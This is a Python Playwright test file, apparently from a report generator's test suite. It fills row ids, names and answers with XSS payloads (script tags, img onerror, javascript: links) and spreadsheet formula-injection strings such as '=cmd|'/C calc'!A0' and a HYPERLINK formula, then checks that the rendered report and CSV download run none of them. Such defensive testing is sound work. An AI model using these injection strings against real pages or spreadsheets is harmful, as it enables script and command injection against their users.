"""Names, answers and row ids that try to run: in a real browser none of them does."""

from __future__ import annotations

from dataclasses import replace
from urllib.parse import quote

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from playwright.sync_api import Browser
from report_run import FinishedRun, build_run
from walking import choose, downloaded, draw_all, focused, ids, opened_ready, rows_of

from nameplate.names import Registry

ROW_IDS = (
    "\"><script>alert('id')</script>", "javascript:alert('row')", "__proto__", "a\u2028b c#d%20&amp;", "constructor",
    "</script><img src=x onerror=alert('end')>", "=cmd|'/C calc'!A0", "\t=1+1",
)  # fmt: skip
NAME = "Fila <img src=x onerror=alert('name')>"
TEXTS = (
    "<script>alert('text')</script>", "</script><script>alert('close')</script>", "<img src=x onerror=alert('img')>",
    "javascript:alert('link')", "line\u2028separator\u2029</SCRIPT >", "{{ 7 * 7 }} ${alert('js')} <!-- <script>",
    "\" onmouseover=\"alert('attr')", "\\u003cscript\\u003ealert('escaped')\\u003c/script\\u003e",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\uff1d1+1",
    'one, "two"', "no comma\nno quote",
)  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> FinishedRun:
    """A run in which row ids, titles, categories, captions and answers all try to run."""
    finished = build_run(tmp_path_factory.mktemp("hostile"))
    path = finished.run.folder("score") / "predictions.parquet"
    predictions = pq.read_table(path).to_pylist()
    held_out = list(dict.fromkeys(row["row_id"] for row in predictions if row["split"] == "validation"))
    names = dict(zip(held_out, ROW_IDS, strict=False))
    for place, row in enumerate(predictions):
        row["row_id"] = names.get(row["row_id"], row["row_id"])
        # Every second one is to the question for detail.
        row["answer"] = TEXTS[place // 2 % len(TEXTS)] if row["prompt"] == "detail" else row["answer"]
    pq.write_table(pa.Table.from_pylist(predictions), path)
    # A rule says which other name was found, as the registry writes it.
    registry = Registry.from_json(finished.run.registry_path.read_text(encoding="utf-8"))
    entries = [
        replace(entry, display=NAME, aliases=("Fila",)) if entry.display == "Fila" else entry
        for entry in registry.entries
    ]
    finished.run.registry_path.write_text(Registry(tuple(entries)).to_json(), encoding="utf-8")
    for path in finished.run.tables("split").kept_paths():
        table = pq.read_table(path)
        rows = table.to_pylist()
        for place, row in enumerate(rows):
            row["row_id"] = names.get(row["row_id"], row["row_id"])
            row |= {key: TEXTS[(place + at) % len(TEXTS)] for at, key in enumerate(("title", "category", "caption"))}
        pq.write_table(pa.Table.from_pylist(rows, schema=table.schema), path)
    finished.write()
    return finished


def test_what_strangers_wrote_never_runs(browser: Browser, hostile: FinishedRun) -> None:
    opened = opened_ready(browser, hostile.run.report_path)
    page = opened.page
    choose(page, "split", "validation")
    draw_all(page)
    for facet in ("category", "name"):
        select = page.locator(f"#gallery-filter select[name={facet}]")
        for option in select.locator("option").all()[-3:]:
            select.select_option(str(option.get_attribute("value")))
        select.select_option("")
    assert set(ROW_IDS) <= {each.removeprefix("row=") for each in ids(page)}
    assert page.locator("script").count() == 2
    assert page.locator("img:not([src^='data:image/webp;base64,'])").count() == 0
    assert page.evaluate("({}).rows ?? ({}).alert ?? null") is None
    shown = page.locator(".columns.many .words").all_inner_texts()
    assert any("<img src=x onerror=alert('img')>" in text for text in shown)
    assert page.locator(".columns.many .ruling", has_text=f"another name: {NAME}").count() > 0
    names = page.locator("*").evaluate_all("all => all.flatMap(node => node.getAttributeNames())")
    assert not any(name.startswith("on") for name in names)
    links = page.locator("a").evaluate_all("all => all.map(link => link.getAttribute('href'))")
    assert all(link.startswith(("#", "figures/")) for link in links)
    assert opened.troubles == []
    assert opened.foreign == []


def test_no_cell_of_the_table_is_a_formula_and_every_text_is_whole(browser: Browser, hostile: FinishedRun) -> None:
    opened = opened_ready(browser, hostile.run.report_path)
    seen = set()
    for split in ("test", "validation"):
        choose(opened.page, "split", split)
        for row in rows_of(downloaded(opened.page)):
            assert not any(cell.startswith(tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")) for cell in row.values())
            seen.update(row[column].removeprefix("'") for column in ("row_id", "title", "category", "answer"))
    assert {*ROW_IDS, *TEXTS} <= seen
    assert opened.troubles == opened.foreign == []


@pytest.mark.parametrize("row_id", ROW_IDS)
def test_a_link_to_a_row_with_a_strange_name_works_and_runs_nothing(
    browser: Browser, hostile: FinishedRun, row_id: str
) -> None:
    opened = opened_ready(browser, hostile.run.report_path, fragment=f"#row={quote(row_id, safe='')}")
    assert focused(opened.page) == f"row={row_id}"
    assert opened.page.locator(":focus .columns.many").count() == 1 or opened.page.locator(":focus").is_visible()
    assert opened.troubles == []
